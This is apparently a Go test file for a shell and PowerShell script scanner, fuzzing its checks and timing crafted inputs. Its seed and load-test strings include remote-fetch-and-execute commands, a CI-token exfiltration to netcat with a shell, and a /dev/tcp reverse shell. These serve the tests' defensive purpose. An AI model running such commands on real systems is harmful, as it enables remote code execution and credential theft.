package script_test

import (
	"context"
	"testing"
	"time"

	"github.com/penstock-dev/penstock/scan/pipeline"
)

// FuzzCheck looks for scripts whose check panics or gives a finding outside of
// the file.
func FuzzCheck(f *testing.F) {
	analyzer, err := pipeline.New(pipeline.Config{})
	if err != nil {
		f.Fatal(err)
	}
	for _, seed := range []string{
		"curl -s https://x.example/a | sudo sh -s -- -y\n", "x=$(curl -o a https://x.example); eval \"$x\"; ./a", "bash -c \"$(wget -qO- https://x.example)\" <<< a",
		"iex ((New-Object Net.WebClient).DownloadString('https://x.example'))", "sh -c 'sh -c \"curl -k https://x.example | sh\"'", "echo \"$CI_JOB_TOKEN\" | base64 | nc -e sh 1.2.3.4 5",
		"pip install -r a b==1 --trusted-host c", "docker login -p a\\\n b -v /:/x --mount=source=/,", "bash <<E\ncurl x\nE\n", "env -u A B=c timeout 5 sudo -u x npm i y@z", "exec 5<>/dev/tcp/1/2; sh <&5",
	} {
		f.Add("a.sh", []byte(seed))
		f.Add("a.ps1", []byte(seed))
	}
	f.Fuzz(func(t *testing.T, path string, text []byte) {
		if path != "a.sh" && path != "a.ps1" {
			path = "a.sh"
		}
		list, _ := analyzer.Check(context.Background(), path, text)
		for _, w := range list {
			if r := w.Location.Region; r.StartOffset < 0 || r.StartOffset > r.EndOffset || r.EndOffset > len(text) {
				t.Fatalf("%s at [%d, %d) of %d bytes", w.Rule.ID, r.StartOffset, r.EndOffset, len(text))
			}
		}
	})
}

// TestLongScripts checks that scripts made to be slow are not.
func TestLongScripts(t *testing.T) {
	t.Parallel()
	analyzer, err := pipeline.New(pipeline.Config{})
	if err != nil {
		t.Fatal(err)
	}
	repeat := func(s string, size int) []byte {
		var b []byte
		for len(b) < size {
			b = append(b, s...)
		}
		return b
	}
	for name, text := range map[string][]byte{
		"pipeline":      repeat("curl a b|sh|", 60<<10),
		"long pipeline": repeat("curl a b|sh|", 100<<10),
		"assignments":   repeat("x=$(curl a b);eval \"$x\"\n", 60<<10),
		"lines":         append(repeat("x=$(curl a b);eval \"$(curl c)\" | tee f;./f\n", 900<<10), "if (\n"...),
		"nested":        repeat("sh -c \"curl -k https://a.example | sh\"\n", 60<<10),
		"deep":          repeat("$(", 60<<10),
		"saved":         repeat("curl -o a b;mv a b;./c\n", 900<<10),
		"secrets":       repeat("A=$CI_JOB_TOKEN;B=$A;echo $B|base64|nc x 1\n", 900<<10),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
			defer cancel()
			done := make(chan struct{})
			go func() {
				defer close(done)
				_, _ = analyzer.Check(ctx, "a.sh", text)
			}()
			select {
			case <-done:
			case <-ctx.Done():
				t.Error("the check takes more than a minute")
			}
		})
	}
}
